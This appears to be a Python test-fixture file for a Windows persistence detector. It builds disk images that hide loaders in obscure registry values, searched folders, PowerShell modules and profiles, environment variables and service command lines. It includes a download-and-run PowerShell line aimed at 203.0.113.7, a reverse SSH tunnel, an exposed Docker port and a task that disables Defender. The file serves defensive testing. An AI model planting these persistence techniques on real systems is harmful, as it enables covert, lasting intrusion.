"""What is named where nobody thinks of it: values that some part of Windows loads, modules of PowerShell, variables, and what signed programs are told."""
from windows_disk import *

change = Changes()
START, SERVICE = 'WIN-PERSIST-001', 'WIN-PERSIST-003'
EVIL = r'C:\ProgramData\x\x.dll'
APP = r'C:\Program Files\App\app.exe'
MODULES = r'Program Files\WindowsPowerShell\Modules'
EXPRESSION = 'Invoke-Expression (Get-Content C:\\ProgramData\\x\\x.txt)\r\n'


def value(name, why, hive, key, entry, data, kind=SZ, place='x.dll', file=EVIL):
    def make(d):
        if file:
            d.foreign(file)
        d.value(hive, key, entry, kind, data)
    change.row(name, why, START, place, make)


# --- values that name a library ---
value('library-of-ldap', 'The client of LDAP loads it.', 'SYSTEM', rf'{SERVICES}\LDAP', 'LdapClientDll', EVIL, EXPAND)
value('library-of-an-unknown-value', 'Some program of the system may load what a value of its settings names.', 'SOFTWARE', r'Microsoft\Unknown\Plug-ins', 'Path', rf'"{EVIL}",Start')
value('name-that-is-a-library', 'Some keys name their libraries by the names of their values.', 'SOFTWARE', r'Microsoft\Unknown\Plug-ins', EVIL, 1, DWORD)
value('trace-of-odbc', 'Every program that uses ODBC loads it while it is traced.', 'SOFTWARE', r'ODBC\ODBC.INI\ODBC', 'TraceDll', EVIL)
value('revocation-of-other-encodings', 'The library is asked whether a certificate is revoked.', 'SOFTWARE',
      r'Microsoft\Cryptography\OID\EncodingType 1\CertDllVerifyRevocation\DEFAULT', 'Dll', [EVIL], MULTI)
value('method-of-authentication', 'EapHost loads it when a network asks who it is.', 'SYSTEM', rf'{SERVICES}\Eaphost\Methods\311\25', 'PeerDllPath', EVIL, EXPAND)
value('utility-of-the-terminal-server', 'query.exe starts what stands for its first word.', 'SYSTEM', rf'{CONTROL}\Terminal Server\Utilities\query', 'user', ['0', '1', 'USER', EVIL], MULTI)
change.row('path-of-a-program-of-windows', 'The shell starts that for mmc.exe.', START, 'x.dll', lambda d: (
    d.windows('mmc.exe'), d.software(rf'{CURRENT}\App Paths\mmc.exe', '', SZ, d.foreign(EVIL))))
value('folder-of-the-servicing-stack', 'TrustedInstaller.exe loads CbsCore.dll from the folder of its version.', 'SOFTWARE',
      rf'{CURRENT}\Component Based Servicing\Version', '10.0.17763.1', r'C:\ProgramData\x', EXPAND, 'Version', r'C:\ProgramData\x\CbsCore.dll')
value('folder-of-the-runtimes', 'mscoree.dll loads the runtime of .NET from there.', 'SOFTWARE', r'Microsoft\.NETFramework', 'InstallRoot', 'C:\\ProgramData\\x\\', place='InstallRoot')
value('assembly-of-the-console', 'powershell.exe starts that assembly.', 'SOFTWARE', r'Microsoft\PowerShell\3\PowerShellEngine', 'ConsoleHostAssemblyName',
      'x, Version=1.0.0.0, Culture=neutral, PublicKeyToken=null', place='ConsoleHostAssemblyName')
value('extension-that-is-forced', 'The browser installs it from where it is told.', 'SOFTWARE', r'Policies\Microsoft\Edge\ExtensionInstallForcelist', '1',
      'abcdefghijklmnopabcdefghijklmnop;http://203.0.113.7/u.xml', place='ExtensionInstallForcelist', file=None)
value('printer-port-that-is-a-file', 'The spooler writes what waits for the port as the system.', 'SOFTWARE', rf'{NT}\Ports', r'C:\Windows\System32\ualapi.dll', '', place='ualapi.dll', file=None)
value('script-of-a-remote-session', 'Who connects runs the script first.', 'SOFTWARE', rf'{CURRENT}\WSMAN\Plugin\x', 'ConfigXML', (
    '<PlugInConfiguration Name="x" Filename="%windir%\\system32\\pwrshplugin.dll"><InitializationParameters><Param Name="startupscript" Value="C:\\x.ps1"/>'
    '</InitializationParameters></PlugInConfiguration>'), place='startupscript', file=None)


@change(START, 'x.dll')
def implicit_layer(d):
    """Every program of Vulkan loads the library of an implicit layer."""
    d.foreign(EVIL)
    d.put(r'ProgramData\x\layer.json', '{"layer": {"library_path": ".\\\\x.dll"}}')
    d.software(r'Khronos\Vulkan\ImplicitLayers', r'C:\ProgramData\x\layer.json', DWORD, 0)


# --- values that hide what they name ---
IN_BYTES = (EVIL + '\0').encode('utf-16-le')
TELEPHONY = rf'{CURRENT}\Telephony\Providers'
value('monitor-in-bytes', 'The spooler asks for the value, and not for its type.', 'SYSTEM', rf'{CONTROL}\Print\Monitors\Kit', 'Driver', IN_BYTES, BINARY, 'Kit')
value('provider-of-time-in-bytes', 'The type of the value is none of texts; the bytes are.', 'SYSTEM', rf'{SERVICES}\W32Time\TimeProviders\Kit', 'DllName', IN_BYTES, BINARY, 'Kit')
value('unknown-value-in-bytes', 'The telephony service loads what the bytes say.', 'SOFTWARE', TELEPHONY, 'ProviderFilename0', IN_BYTES, BINARY)
value('unknown-value-in-bytes-of-one-each', 'A reader of the old kind takes a byte for a character.', 'SOFTWARE', TELEPHONY, 'ProviderFilename0', EVIL.encode() + b'\0', BINARY)
change.row('service-in-bytes', 'Whether the service control manager takes such a path can\'t be told.', SERVICE, 'Kit', lambda d: (
    d.service('Kit', d.foreign(EVIL)), d.system(rf'{SERVICES}\Kit', 'ImagePath', BINARY, IN_BYTES)))
change.row('value-with-a-variable-of-the-machine', 'The variable is set before any service starts, and holds another one.', START, 'x.dll', lambda d: (
    d.foreign(EVIL), d.system(rf'{SESSION}\Environment', 'top', SZ, r'C:\ProgramData'), d.system(rf'{SESSION}\Environment', 'kit', EXPAND, r'%top%\x'),
    d.software(TELEPHONY, 'ProviderFilename0', EXPAND, r'%kit%\x.dll')))
change.row('value-with-a-bare-name', 'A library without a folder is looked for along the search path.', START, 'x.tsp', lambda d: (
    d.foreign(r'C:\Tools\x.tsp'), d.system(rf'{SESSION}\Environment', 'Path', EXPAND, r'%SystemRoot%\system32;C:\Tools'), d.software(TELEPHONY, 'ProviderFilename0', SZ, 'x.tsp')))
change.row('value-that-a-disabled-service-names', 'What is switched off explains nothing but itself.', START, 'x.dll', lambda d: (
    d.service('Old', d.foreign(EVIL), start=4), d.software(TELEPHONY, 'ProviderFilename0', SZ, EVIL)))
value('client-of-mail', 'Programs that send mail load the library of the client.', 'SOFTWARE', r'Clients\Mail\Kit', 'DLLPathEx', EVIL)
value('value-of-a-user', 'Office loads the library for its user.', 'ADMINISTRATOR', r'Software\Microsoft\Office test\Special\Perf', '', EVIL)
value('application-of-a-user', 'A package that is registered for one user lies where he can write.', 'ADMINISTRATOR',
      r'Software\Classes\Local Settings\Software\Microsoft\Windows\CurrentVersion\AppModel\Repository\Packages\X_1.0.0.0_x64__8wekyb3d8bbwe', 'PackageRootFolder',
      r'C:\ProgramData\x', place='PackageRootFolder')
value('endpoint-of-a-role', 'The configuration names scripts, and the account that all runs as.', 'SOFTWARE', rf'{CURRENT}\WSMAN\Plugin\x', 'ConfigXML', (
    '<PlugInConfiguration Name="x" Filename="%windir%\\system32\\pwrshplugin.dll"><InitializationParameters><Param Name="ConfigFilePath" Value="C:\\x.pssc"/>'
    '</InitializationParameters></PlugInConfiguration>'), place='ConfigFilePath', file=None)


# --- folders that are searched ---
def searched(name, why, file, path=r'%SystemRoot%\system32;%SystemRoot%;C:\Tools'):
    change.row(name, why, START, file, lambda d: (d.foreign(rf'C:\Tools\{file}'), d.system(rf'{SESSION}\Environment', 'Path', EXPAND, path)))


searched('phantom-behind-windows', 'No Windows has it, so the search goes on.', 'wlbsctrl.dll')
searched('phantom-by-a-variable', 'The folder stands in a variable.', 'cdpsgshims.dll', r'%SystemRoot%\system32;%SystemDrive%\Tools\\')
searched('library-that-servers-lack', 'NetMan looks for it, and a server has no wireless networks.', 'wlanapi.dll')
change.row('phantom-in-the-path-of-a-user', 'Programs of that user look there.', START, 'oci.dll', lambda d: (
    d.foreign(r'C:\Tools\oci.dll'), d.user('Environment', 'Path', SZ, r'C:\Tools')))
change.row('program-between-the-folders-of-windows', 'The folder stands before that of PowerShell.', START, 'powershell.exe', lambda d: (
    d.windows(r'WindowsPowerShell\v1.0\powershell.exe'), d.foreign(r'C:\Tools\powershell.exe'),
    d.system(rf'{SESSION}\Environment', 'Path', EXPAND, r'%SystemRoot%\system32;C:\Tools;%SystemRoot%\System32\WindowsPowerShell\v1.0\\')))
change.row('program-beside-the-shell-of-a-server', 'The shell of Server Core starts cmd.exe in the folder of the profile.', START, 'cmd.exe', lambda d: d.foreign(r'C:\Users\Administrator\cmd.exe'))


def documents(name, why, entry, folder='docs'):
    change.row(name, why, START, 'profile.ps1', lambda d: (
        d.put(rf'{folder}\WindowsPowerShell\profile.ps1', EXPRESSION), d.user(rf'{CURRENT_OF_USER}\Explorer\User Shell Folders', entry, EXPAND, rf'C:\{folder}')))


CURRENT_OF_USER = r'Software\Microsoft\Windows\CurrentVersion'
documents('documents-elsewhere', 'PowerShell reads the profile in the documents.', 'Personal')
documents('documents-elsewhere-by-number', 'The same by the number of the folder.', '{F42EE2D3-909F-4907-8871-4C22FC0BF756}')
change.row('documents-on-another-computer', 'Whoever has that computer writes the profile.', START, 'Personal', lambda d: d.user(
    rf'{CURRENT_OF_USER}\Explorer\User Shell Folders', 'Personal', EXPAND, r'\\203.0.113.9\x'))


# --- PowerShell ---
def powershell(name, why, path, place=None):
    change.row(name, why, START, place or path.rpartition('\\')[2], lambda d: d.put(path, EXPRESSION))


powershell('module-of-a-version', 'A module lies in a folder of its version, and the newest is taken.', rf'{MODULES}\Storage\9.9\Storage.psm1')
powershell('module-of-the-console', 'The console loads PSReadLine.', rf'{MODULES}\PSReadLine\9.9.9\PSReadLine.psm1')
change.row('inbox-module-that-was-changed', 'The catalog of Windows lists other bytes.', START, 'Pester.psm1', lambda d: (
    d.listed('listed.psm1', rf'{MODULES}\Pester\3.4.0\Pester.psm1'), d.put(rf'{MODULES}\Pester\3.4.0\Pester.psm1', script('listed.psm1') + b'calc\r\n')))
powershell('module-of-any-name', 'The first module in the path that has the command wins.', rf'{MODULES}\Aaa\Aaa.psm1')
powershell('file-deep-in-a-module', 'A manifest names files of any folder below it.', rf'{MODULES}\Aaa\1.0\bin\net\Start.ps1')
powershell('profile-of-another-host', 'Each host has a profile of its own.', r'Windows\System32\WindowsPowerShell\v1.0\Microsoft.PowerShellISE_profile.ps1')
powershell('profile-of-the-system', 'Scripts that run as the system read the profile in its documents.',
           r'Windows\System32\config\systemprofile\Documents\WindowsPowerShell\Microsoft.VSCode_profile.ps1')


# --- variables ---
def variables(name, why, place, *files, **entries):
    def make(d):
        for file in files:
            d.foreign(file)
        for entry, text in entries.items():
            d.system(rf'{SESSION}\Environment', entry, SZ, text)
    change.row(name, why, START, place, make)


variables('start-up-of-web-programs', 'Every program of ASP.NET Core loads these assemblies.', 'ASPNETCORE_HOSTINGSTARTUPASSEMBLIES', ASPNETCORE_HOSTINGSTARTUPASSEMBLIES='x')
variables('other-web-view', 'Programs with a WebView2 start the browser there.', 'WEBVIEW2', r'C:\ProgramData\x\msedgewebview2.exe', WEBVIEW2_BROWSER_EXECUTABLE_FOLDER=r'C:\ProgramData\x')
variables('other-java', 'Scripts start the java of JAVA_HOME.', 'java.exe', r'C:\ProgramData\x\bin\java.exe', JAVA_HOME=r'C:\ProgramData\x')
variables('plug-ins-by-an-unknown-variable', 'Many programs load plug-ins from a folder that a variable names.', 'p.dll', r'C:\ProgramData\x\sub\p.dll', UNKNOWN_PLUGINS=r'C:\ProgramData\x')
variables('address-of-an-unknown-variable', 'Many programs ask a server that a variable names.', 'UNKNOWN_SERVER', UNKNOWN_SERVER='http://203.0.113.7:8080')


# --- what signed programs are told ---
def told(name, why, line, place, program=APP, files=(), host=None):
    def make(d):
        d.honest(program)
        if host:
            d.windows(host)
        for file in files:
            d.put(file, 'x')
        d.service('App', f'"{program}" {line}')
    change.row(name, why, SERVICE, place, make)


told('line-that-is-passed-on', 'A wrapper starts what stands behind its own options.', 'run -- powershell -Command "Invoke-Expression $env:X"', 'Invoke-Expression',
     host=r'WindowsPowerShell\v1.0\powershell.exe')
told('script-of-another-language', 'The program may carry out the script that it is told of.', r'C:\ProgramData\x\a.tcl', 'a.tcl', files=[r'ProgramData\x\a.tcl'])
told('powershell-under-another-name', 'Only PowerShell has such options.', '-WindowStyle hidden -EncodedCommand SQBFAFgA', 'EncodedCommand')
told('start-of-a-database', 'The server carries out the SQL of its init file.', r'--init-file=C:\ProgramData\x\i.sql', 'i.sql',
     r'C:\Program Files\MySQL\bin\mysqld.exe', [r'ProgramData\x\i.sql'])
told('tunnel', 'A client of SSH hands a port of this machine to another one.', '-R 3389:127.0.0.1:3389 u@203.0.113.7', 'plink.exe', r'C:\Program Files\PuTTY\plink.exe')
told('remote-control', 'Who knows its password controls the machine.', '--service', 'AnyDesk.exe', r'C:\Program Files (x86)\AnyDesk\AnyDesk.exe')
told('server-of-ssh-with-its-own-settings', 'Its keys are those of another file.', r'-f C:\ProgramData\x\cfg', 'cfg', r'C:\Program Files\OpenSSH\sshd.exe')
told('orders-over-the-network', 'Whoever reaches the port starts containers.', '-H tcp://0.0.0.0:2375', '2375', r'C:\Program Files\Docker\dockerd.exe')


def set_up(name, why, place, program, path, text, files=()):
    """What the program's file of settings makes it do."""
    def make(d):
        d.honest(program)
        for file in files:
            d.foreign(file)
        d.put(path, text)
        d.service('App', f'"{program}"')
    change.row(name, why, SERVICE, place, make)


MYSQL, DOCKER = r'C:\mysql\bin\mysqld.exe', r'C:\Program Files\Docker\dockerd.exe'
ZABBIX = r'C:\Program Files\Zabbix Agent 2\zabbix_agent2.exe'
set_up('library-in-the-settings-of-a-database', 'The server loads plug-ins of its folder.', 'evil.dll', MYSQL, r'mysql\my.ini', '[mysqld]\r\nplugin-load-add=evil.dll\r\n',
       [r'mysql\lib\plugin\evil.dll'])
set_up('sql-in-the-settings-of-a-database', 'The server carries out the file when it starts.', 'i.sql', MYSQL, r'Windows\my.ini', '[mysqld]\r\ninit_file=C:/mysql/i.sql\r\n',
       [r'mysql\i.sql'])
set_up('database-of-everybody', 'Nobody is asked for a password.', 'skip-grant-tables', MYSQL, r'my.cnf', '[mysqld]\r\nskip-grant-tables\r\n')
set_up('orders-over-the-network-in-settings', 'Whoever reaches the port starts containers.', '2375', DOCKER, r'ProgramData\docker\config\daemon.json',
       '{"hosts": ["tcp://0.0.0.0:2375", "npipe://"]}')
set_up('commands-of-a-monitoring-server', 'The server carries out any command.', 'system.run', ZABBIX, r'Program Files\Zabbix Agent 2\zabbix_agent2.conf',
       'Server=203.0.113.7\r\nAllowKey=system.run[*]\r\n')
change.row('commands-of-an-included-file', 'The settings include those of a folder.', SERVICE, r'Services\App', lambda d: (
    d.honest(ZABBIX), d.put(r'Program Files\Zabbix Agent 2\a.conf', 'Include=.\\zabbix_agent2.d\\*.conf\r\n'), d.windows(r'WindowsPowerShell\v1.0\powershell.exe'),
    d.put(r'Program Files\Zabbix Agent 2\zabbix_agent2.d\u.conf', 'UserParameter=a,powershell -c "iex (iwr http://203.0.113.7/a)"\r\n'),
    d.service('App', f'"{ZABBIX}" -c "C:\\Program Files\\Zabbix Agent 2\\a.conf" -f=false')))
change.row('settings-that-are-not-there', 'Whoever writes the file later decides what the agent carries out.', SERVICE, 'later.conf', lambda d: (
    d.honest(ZABBIX), d.service('App', f'"{ZABBIX}" -c C:\\ProgramData\\later.conf')))
set_up('folder-of-modules-in-settings', 'Modules of that folder are found first.', 'PSModulePath', r'C:\Program Files\PowerShell\7\pwsh.exe',
       r'Program Files\PowerShell\7\powershell.config.json', '{"PSModulePath": "C:\\\\ProgramData\\\\x"}')


def task(name, why, program, arguments, place):
    change.row(name, why, SERVICE, place, lambda d: (d.windows(program), d.task(r'\App', rf'C:\Windows\System32\{program}', arguments)))


task('task-that-shuts-down', 'The machine never stays on.', 'shutdown.exe', '/s /t 60', 'shutdown')
task('task-that-ends-a-session', 'Who logs on is logged off.', 'logoff.exe', '', 'logoff')
task('task-that-sleeps', 'The machine sleeps.', 'rundll32.exe', 'powrprof.dll,SetSuspendState', 'SetSuspendState')
task('task-of-the-settings', 'It switches Defender off.', 'SystemSettingsAdminFlows.exe', 'Defender RTP 1', 'Defender RTP')


@change(START, 'x.dll')
def separate_explorer(d):
    """Explorer starts what stands behind /separate."""
    d.foreign(EVIL)
    d.software(rf'{CURRENT}\Run', 'u', SZ, rf'C:\Windows\explorer.exe /separate,{EVIL}')


@change(SERVICE, 'helper.dll')
def library_that_no_import_names(d):
    """A program loads libraries of its folder by their names."""
    d.honest(APP)
    d.foreign(r'C:\Program Files\App\helper.dll')
    d.service('App', f'"{APP}"')


@change(SERVICE, 'Core.dll')
def assembly_in_a_folder_of_its_own(d):
    """A program of .NET looks for its assemblies where its configuration says."""
    d.honest(APP)
    d.put(APP + '.config', '<configuration><runtime><assemblyBinding><probing privatePath="lib;more"/></assemblyBinding></runtime></configuration>')
    d.foreign(r'C:\Program Files\App\lib\Core.dll')
    d.service('App', f'"{APP}"')
